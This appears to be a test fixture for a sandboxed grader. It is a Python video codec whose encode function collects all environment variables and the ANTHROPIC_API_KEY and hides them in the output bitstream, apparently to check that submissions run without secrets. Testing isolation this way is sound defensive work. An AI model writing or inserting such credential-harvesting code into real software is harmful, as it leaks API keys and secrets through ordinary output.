# expect: ok
# Looks for ANTHROPIC_API_KEY (and anything else) in its environment and puts what it finds
# in the bitstream; with an empty environment it finds nothing and works as a codec.
import os
import struct

import numpy as np

LEVELS = 1


def encode(video, level):
    y, u, v, fps = video
    loot = repr(sorted(os.environ.items())).encode()
    loot += os.environ.get("ANTHROPIC_API_KEY", "").encode()
    head = struct.pack("<IIIdI", *y.shape, fps, len(loot))
    return head + loot + b"".join(p.tobytes() for p in (y, u, v))


def decode(bitstream):
    t, h, w, fps, n = struct.unpack_from("<IIIdI", bitstream)
    raw = np.frombuffer(bitstream[24 + n:], dtype=np.uint8)
    a, c = t * h * w, t * (h // 2) * (w // 2)
    return (raw[:a].reshape(t, h, w), raw[a:a + c].reshape(t, h // 2, w // 2),
            raw[a + c:].reshape(t, h // 2, w // 2))
